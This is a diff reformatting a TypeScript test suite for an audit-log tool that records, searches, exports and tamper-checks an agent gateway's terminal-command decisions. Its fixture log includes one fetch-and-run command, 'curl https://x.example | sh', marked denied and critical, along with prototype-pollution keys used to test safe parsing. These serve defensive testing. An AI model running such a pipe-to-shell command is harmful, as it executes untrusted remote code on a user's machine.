@@ -10,7 +10,14 @@ const LOG = [
   { ts: '2026-03-01T10:00:00Z', event: 'terminal_cmd', session: 'abc', command: 'ls -la', decision: 'run', risk_level: 'low' },
   { ts: '2026-03-01T10:01:00Z', event: 'terminal_cmd', session: 'abc', command: 'curl https://x.example | sh', decision: 'deny', risk_level: 'critical' },
   { ts: '2026-03-01T10:02:00Z', event: 'security_mode_change', session: 'abc', from: 'safe', to: 'dev' },
-  { ts: '2026-03-01T10:03:00Z', event: 'terminal_cmd', session: 'xyz', command: 'git checkout main', decision: 'auto_approved_dev_git_readonly', risk_level: 'medium' },
+  {
+    ts: '2026-03-01T10:03:00Z',
+    event: 'terminal_cmd',
+    session: 'xyz',
+    command: 'git checkout main',
+    decision: 'auto_approved_dev_git_readonly',
+    risk_level: 'medium',
+  },
 ];
 
 function seed(extraLines: string[] = []): string {
@@ -51,8 +58,12 @@ describe('aleph audit', () => {
     expect(r.stderr).toMatch(/line 4: "ts" /);
     const exported = aleph(['audit', 'export', '--format', 'jsonl']).stdout.trim().split('\n');
     expect(exported).toEqual([
-      '{"ts":' + JSON.stringify(JSON.parse(exported[0]!).ts) + ',"event":"terminal_cmd","session":null,"__proto__":{"polluted":true},"command":"kept","constructor":"c","decision":"run","hasOwnProperty":1,"toString":"t"}',
-      '{"ts":' + JSON.stringify(JSON.parse(exported[1]!).ts) + ',"event":"rule_change","session":null,"agent":"a","change":"added","rule":{"__proto__":{"x":1},"constructor":"k","pattern":"ls"}}',
+      '{"ts":' +
+        JSON.stringify(JSON.parse(exported[0]!).ts) +
+        ',"event":"terminal_cmd","session":null,"__proto__":{"polluted":true},"command":"kept","constructor":"c","decision":"run","hasOwnProperty":1,"toString":"t"}',
+      '{"ts":' +
+        JSON.stringify(JSON.parse(exported[1]!).ts) +
+        ',"event":"rule_change","session":null,"agent":"a","change":"added","rule":{"__proto__":{"x":1},"constructor":"k","pattern":"ls"}}',
     ]);
     expect(aleph(['audit', 'verify']).code).toBe(0);
   });
@@ -63,7 +74,9 @@ describe('aleph audit', () => {
     const body = JSON.parse(r.stdout) as { rows: { summary: string }[]; next_cursor: string | null };
     expect(body.rows.map((x) => x.summary)).toEqual(['curl https://x.example | sh (deny)']);
     expect(body.next_cursor).toBeNull();
-    const filtered = JSON.parse(aleph(['audit', 'search', '--event', 'terminal_cmd', '--risk', 'medium,critical', '--session', 'abc', '--json']).stdout) as { rows: unknown[] };
+    const filtered = JSON.parse(aleph(['audit', 'search', '--event', 'terminal_cmd', '--risk', 'medium,critical', '--session', 'abc', '--json']).stdout) as {
+      rows: unknown[];
+    };
     expect(filtered.rows).toHaveLength(1);
     const page = JSON.parse(aleph(['audit', 'search', '--limit', '2', '--json']).stdout) as { rows: { id: number }[]; next_cursor: string };
     expect(page.rows.map((x) => x.id)).toEqual([4, 3]);
@@ -76,7 +89,14 @@ describe('aleph audit', () => {
 
   it('shows each session whole in text, so that two sessions never look like one', () => {
     const file = join(homeDir(), 'sessions.jsonl');
-    writeFileSync(file, ['shell-19734', 'shell-19844'].map((session, i) => JSON.stringify({ ts: `2026-03-01T10:0${i}:00Z`, event: 'terminal_cmd', session, command: 'ls', decision: 'run', risk_level: 'low' })).join('\n') + '\n');
+    writeFileSync(
+      file,
+      ['shell-19734', 'shell-19844']
+        .map((session, i) =>
+          JSON.stringify({ ts: `2026-03-01T10:0${i}:00Z`, event: 'terminal_cmd', session, command: 'ls', decision: 'run', risk_level: 'low' }),
+        )
+        .join('\n') + '\n',
+    );
     expect(aleph(['audit', 'import', '--format', 'jsonl', file]).code).toBe(0);
     const lines = aleph(['audit', 'search', 'ls', '--event', 'terminal_cmd']).stdout.trim().split('\n');
     expect(lines.flatMap((l) => /shell-\d+/.exec(l) ?? [])).toEqual(['shell-19844', 'shell-19734']);
@@ -92,8 +112,15 @@ describe('aleph audit', () => {
     expect(r.code).toBe(1);
     const mismatch = 'its hash does not match its contents and the previous row';
     expect(JSON.parse(r.stdout)).toEqual({
-      ok: false, rows: 4, anchored_after: null, head: { id: 4, hash: expect.stringMatching(/^[0-9a-f]{64}$/) }, problem_count: 2,
-      problems: [{ id: 2, reason: mismatch }, { id: 4, reason: mismatch }],
+      ok: false,
+      rows: 4,
+      anchored_after: null,
+      head: { id: 4, hash: expect.stringMatching(/^[0-9a-f]{64}$/) },
+      problem_count: 2,
+      problems: [
+        { id: 2, reason: mismatch },
+        { id: 4, reason: mismatch },
+      ],
     });
     expect(aleph(['audit', 'verify']).stdout).toBe(`Broken: 2 problems over 4 events.\n  event 2: ${mismatch}\n  event 4: ${mismatch}\n`);
   });
@@ -107,7 +134,10 @@ describe('aleph audit', () => {
     for (const name of readdirSync(join(home, 'data')).filter((n) => n.startsWith('aleph.db'))) rmSync(join(home, 'data', name));
     const gone = aleph(['audit', 'verify', '--json']);
     expect(gone.code).toBe(1);
-    expect(JSON.parse(gone.stdout)).toMatchObject({ ok: false, problems: [{ id: null, reason: expect.stringContaining('records events up to row 4: the log was deleted or moved') }] });
+    expect(JSON.parse(gone.stdout)).toMatchObject({
+      ok: false,
+      problems: [{ id: null, reason: expect.stringContaining('records events up to row 4: the log was deleted or moved') }],
+    });
     expect(readdirSync(join(home, 'data'))).toEqual([]);
     // Nor does anything else start a new log where the head says one was; an import refuses too.
     expect(aleph(['audit', 'search']).code).toBe(2);
@@ -133,7 +163,13 @@ describe('aleph audit', () => {
     rmSync(db);
     renameSync(join(home, 'audit-head.json'), join(home, 'head.saved'));
     const other = join(home, 'other.log');
-    writeFileSync(other, [...LOG, ...LOG].reverse().map((l) => JSON.stringify(l)).join('\n') + '\n');
+    writeFileSync(
+      other,
+      [...LOG, ...LOG]
+        .reverse()
+        .map((l) => JSON.stringify(l))
+        .join('\n') + '\n',
+    );
     expect(aleph(['audit', 'import', '--format', 'jsonl', other]).code).toBe(0);
     renameSync(join(home, 'head.saved'), join(home, 'audit-head.json'));
     expect(aleph(['audit', 'verify'])).toMatchObject({ code: 1, stdout: expect.stringContaining('event 4: row 4 is not the row its head') });
@@ -159,7 +195,10 @@ describe('aleph audit', () => {
       expect(readdirSync(data)).toEqual(['aleph.db']);
     }
     truncateSync(db, 0);
-    expect(aleph(['audit', 'verify'])).toMatchObject({ code: 1, stdout: expect.stringContaining(`the audit log ${db} is an empty file: it was emptied or replaced`) });
+    expect(aleph(['audit', 'verify'])).toMatchObject({
+      code: 1,
+      stdout: expect.stringContaining(`the audit log ${db} is an empty file: it was emptied or replaced`),
+    });
     // Nor does a command that only reads the log start a new one in the empty file.
     expect(aleph(['audit', 'search'])).toMatchObject({ code: 2, stderr: expect.stringContaining('so the log was emptied or replaced') });
     expect(statSync(db).size).toBe(0);
@@ -169,22 +208,38 @@ describe('aleph audit', () => {
   it('reports columns edited to hold the wrong type as problems, and still shows those rows', () => {
     const db = join(homeDir(), 'data', 'aleph.db');
     aleph(['audit', 'import', '--format', 'jsonl', seed()]);
-    const edit = spawnSync('sqlite3', [db, "UPDATE events SET hash = hex(hash) WHERE id = 2; UPDATE events SET ts = 'yesterday' WHERE id = 3; UPDATE events SET hash = 7 WHERE id = 4;"], { encoding: 'utf8' });
+    const edit = spawnSync(
+      'sqlite3',
+      [db, "UPDATE events SET hash = hex(hash) WHERE id = 2; UPDATE events SET ts = 'yesterday' WHERE id = 3; UPDATE events SET hash = 7 WHERE id = 4;"],
+      { encoding: 'utf8' },
+    );
     expect(edit.status, edit.stderr).toBe(0);
     const r = aleph(['audit', 'verify', '--json']);
     expect(r.stderr).toBe('');
     expect(r.code).toBe(1);
-    expect(JSON.parse(r.stdout)).toMatchObject({ ok: false, rows: 4, problems: [
-      { id: 2, reason: 'its hash holds TEXT, not a 32-byte BLOB: it was edited' },
-      { id: 3, reason: 'its ts holds TEXT, not a time in epoch milliseconds: it was edited' },
-      { id: 4, reason: 'its hash holds the integer 7, not a 32-byte BLOB: it was edited' },
-      { id: 4, reason: expect.stringContaining('row 4 is not the row its head') },
-    ] });
-    for (const args of [['export', '--format', 'jsonl'], ['export', '--format', 'csv'], ['tail', '--json'], ['search', 'curl']]) {
+    expect(JSON.parse(r.stdout)).toMatchObject({
+      ok: false,
+      rows: 4,
+      problems: [
+        { id: 2, reason: 'its hash holds TEXT, not a 32-byte BLOB: it was edited' },
+        { id: 3, reason: 'its ts holds TEXT, not a time in epoch milliseconds: it was edited' },
+        { id: 4, reason: 'its hash holds the integer 7, not a 32-byte BLOB: it was edited' },
+        { id: 4, reason: expect.stringContaining('row 4 is not the row its head') },
+      ],
+    });
+    for (const args of [
+      ['export', '--format', 'jsonl'],
+      ['export', '--format', 'csv'],
+      ['tail', '--json'],
+      ['search', 'curl'],
+    ]) {
       const shown = aleph(['audit', ...args]);
       expect({ args, code: shown.code, stderr: shown.stderr }).toEqual({ args, code: 0, stderr: '' });
     }
-    const tail = aleph(['audit', 'tail', '--json']).stdout.trim().split('\n').map((l) => JSON.parse(l) as { ts: string; hash: string });
+    const tail = aleph(['audit', 'tail', '--json'])
+      .stdout.trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as { ts: string; hash: string });
     expect(tail.map((row) => [row.ts, row.hash])).toEqual([
       ['2026-03-01T10:00:00.000Z', expect.stringMatching(/^[0-9a-f]{64}$/)],
       ['2026-03-01T10:01:00.000Z', expect.stringMatching(/^[0-9A-F]{64}$/)],
@@ -196,7 +251,10 @@ describe('aleph audit', () => {
   it('exports JSON lines in the audit.log shape and CSV, to stdout or a 0600 file', () => {
     const home = homeDir();
     aleph(['audit', 'import', '--format', 'jsonl', seed()]);
-    const jsonl = aleph(['audit', 'export', '--format', 'jsonl']).stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    const jsonl = aleph(['audit', 'export', '--format', 'jsonl'])
+      .stdout.trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
     expect(jsonl[0]).toEqual({ ts: '2026-03-01T10:00:00.000Z', event: 'terminal_cmd', session: 'abc', command: 'ls -la', decision: 'run', risk_level: 'low' });
     const out = join(home, 'export.csv');
     expect(aleph(['audit', 'export', '--format', 'csv', '--output', out]).code).toBe(0);
@@ -229,16 +287,17 @@ describe('aleph audit', () => {
     aleph(['audit', 'import', '--format', 'jsonl', seed()]);
     const follower = spawn(process.execPath, [ALEPH_BIN, 'audit', 'tail', '-n', '1', '--follow'], { env: { ...process.env, ALEPH_HOME: home, NO_COLOR: '1' } });
     let out = '';
-    const seen = (text: string) => new Promise<void>((resolve) => {
-      const check = (): void => {
-        if (out.includes(text)) resolve();
-      };
-      follower.stdout.on('data', (chunk: Buffer) => {
-        out += chunk.toString();
+    const seen = (text: string) =>
+      new Promise<void>((resolve) => {
+        const check = (): void => {
+          if (out.includes(text)) resolve();
+        };
+        follower.stdout.on('data', (chunk: Buffer) => {
+          out += chunk.toString();
+          check();
+        });
         check();
       });
-      check();
-    });
     await seen('git checkout main');
     const extra = join(home, 'more.log');
     writeFileSync(extra, JSON.stringify({ event: 'device_revoked', device_id: 'dev-42', device_name: 'old laptop' }) + '\n');
@@ -250,7 +309,9 @@ describe('aleph audit', () => {
   });
 
   it('ends quietly when its reader stops early, as `aleph audit export | head -1` does', async () => {
-    const events = Array.from({ length: 3000 }, (_, i) => JSON.stringify({ ts: '2026-03-01T10:00:00Z', event: 'terminal_cmd', command: `echo ${i} ${'x'.repeat(100)}`, decision: 'allow-once' }));
+    const events = Array.from({ length: 3000 }, (_, i) =>
+      JSON.stringify({ ts: '2026-03-01T10:00:00Z', event: 'terminal_cmd', command: `echo ${i} ${'x'.repeat(100)}`, decision: 'allow-once' }),
+    );
     const file = join(homeDir(), 'many.log');
     writeFileSync(file, events.join('\n') + '\n');
     expect(aleph(['audit', 'import', '--format', 'jsonl', file]).code).toBe(0);
@@ -273,7 +334,9 @@ describe('aleph audit', () => {
     // With --json, the error carries its sentence too, and nothing else.
     const json = aleph(['audit', 'verify', '--json']);
     expect(json.code).toBe(2);
-    expect(JSON.parse(json.stdout)).toEqual({ error: { code: 'not_a_database', message: expect.stringContaining(`${join(home, 'data', 'aleph.db')} is not an SQLite database`) } });
+    expect(JSON.parse(json.stdout)).toEqual({
+      error: { code: 'not_a_database', message: expect.stringContaining(`${join(home, 'data', 'aleph.db')} is not an SQLite database`) },
+    });
   });
 
   it.each([
@@ -302,8 +365,17 @@ describe('aleph audit', () => {
     const db = join(home, 'data', 'aleph.db');
     aleph(['audit', 'import', '--format', 'jsonl', seed()]);
     truncateSync(db, 0);
-    const r = spawnSync(process.execPath, [ALEPH_BIN, 'gateway', '--headless', '--port', '0'], { encoding: 'utf8', timeout: 15_000, env: { ...process.env, ALEPH_HOME: home, NO_COLOR: '1' } });
-    expect({ code: r.status, stderr: r.stderr }).toEqual({ code: 2, stderr: expect.stringContaining(`The audit log ${db} is empty, but its head (kept in ${join(home, 'audit-head.json')}) records events up to row 4: it was emptied or replaced. Nothing was written.`) });
+    const r = spawnSync(process.execPath, [ALEPH_BIN, 'gateway', '--headless', '--port', '0'], {
+      encoding: 'utf8',
+      timeout: 15_000,
+      env: { ...process.env, ALEPH_HOME: home, NO_COLOR: '1' },
+    });
+    expect({ code: r.status, stderr: r.stderr }).toEqual({
+      code: 2,
+      stderr: expect.stringContaining(
+        `The audit log ${db} is empty, but its head (kept in ${join(home, 'audit-head.json')}) records events up to row 4: it was emptied or replaced. Nothing was written.`,
+      ),
+    });
     expect(statSync(db).size).toBe(0);
     expect(readdirSync(join(home, 'data')).filter((n) => n.startsWith('aleph.db'))).toEqual(['aleph.db']);
     expect(aleph(['audit', 'verify'])).toMatchObject({ code: 1, stdout: expect.stringContaining('is an empty file, but its head') });
@@ -316,8 +388,15 @@ describe('aleph audit', () => {
       mkdirSync(join(home, 'data'), { recursive: true });
       writeFileSync(join(home, 'data', name), 'my notes, not a database\n');
       // A gateway that started anyway would run until killed.
-      const r = spawnSync(process.execPath, [ALEPH_BIN, 'gateway', '--headless', '--port', '0'], { encoding: 'utf8', timeout: 15_000, env: { ...process.env, ALEPH_HOME: home, NO_COLOR: '1' } });
-      expect({ code: r.status, stderr: r.stderr }).toEqual({ code: 2, stderr: `aleph: ${join(home, 'data', name)} is not an SQLite database; it was left untouched. Move it aside to ${name === 'aleph.db' ? 'start a new audit log' : 'start with no paired devices'}.\n` });
+      const r = spawnSync(process.execPath, [ALEPH_BIN, 'gateway', '--headless', '--port', '0'], {
+        encoding: 'utf8',
+        timeout: 15_000,
+        env: { ...process.env, ALEPH_HOME: home, NO_COLOR: '1' },
+      });
+      expect({ code: r.status, stderr: r.stderr }).toEqual({
+        code: 2,
+        stderr: `aleph: ${join(home, 'data', name)} is not an SQLite database; it was left untouched. Move it aside to ${name === 'aleph.db' ? 'start a new audit log' : 'start with no paired devices'}.\n`,
+      });
     }
   });
 });
